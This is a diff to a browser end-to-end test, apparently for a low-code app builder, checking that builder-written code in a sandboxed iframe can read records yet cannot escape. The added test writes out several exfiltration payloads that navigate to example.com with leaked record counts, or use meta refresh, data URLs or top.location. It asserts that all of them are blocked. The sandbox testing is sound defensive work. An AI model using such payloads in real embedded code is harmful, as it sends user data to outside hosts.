@@ -169,14 +169,41 @@ test('one block of each kind stands on a page and shows what it should', async (
 test(
   'code that a builder wrote gets records and notices, and reaches nothing else',
   once,
-  async ({ page, newOrganisation, enter }) => {
+  async ({ page, newOrganisation, enter, expectProblem }) => {
     const person = await newOrganisation()
-    const { path } = await makePage(person)
+    const { path, appId, ids } = await makePage(person)
     await enter(page, person, path)
     await block(page, 'customCode').scrollIntoViewIfNeeded()
-    const frame = block(page, 'customCode').frameLocator('iframe')
+    // The code stands in a frame of its own inside the page that holds it.
+    const frame = block(page, 'customCode').frameLocator('iframe').frameLocator('iframe')
     await expect(frame.locator('#out')).toHaveText('6 registros, nada', { timeout: 30_000 })
     await expect(notices(page)).toContainText('Código pronto')
+
+    // The browser says what it refuses.
+    expectProblem(/Framing '.*' violates .*frame-src 'none'/, /initiate navigation/, /permission to navigate/)
+    // Led elsewhere, it would carry along what it was told: no way leads out of its frame.
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    for (const way of [
+      "location = 'https://example.com/?leak=' + records.length",
+      "location.replace('data:text/html,leak' + records.length)",
+      'document.body.innerHTML = \'<meta http-equiv="refresh" content="0;url=https://example.com/?leak=meta">\'',
+      'var link = document.createElement("a"); link.href = "/api/sandbox?leak=own"; document.body.append(link); link.click()',
+      'top.location = "https://example.com/?leak=top"',
+    ]) {
+      const js = `oficina.getRecords().then(function (records) { ${way} })`
+      good(
+        await person.client.api.blocks.update({ appId, blockId: ids.customCode ?? '', settings: { content: { js } } }),
+      )
+      await page.reload()
+      await block(page, 'customCode').scrollIntoViewIfNeeded()
+      // What leads the frame itself stops it; what reaches for the page around it does nothing.
+      if (!way.startsWith('top'))
+        await expect(block(page, 'customCode'), way).toContainText('tentou sair', { timeout: 15_000 })
+      else await expect(frame.locator('body')).toBeAttached()
+    }
+    expect(asked.filter((url) => url.includes('leak'))).toEqual([])
+    expect(page.url()).toContain(path)
   },
 )
 
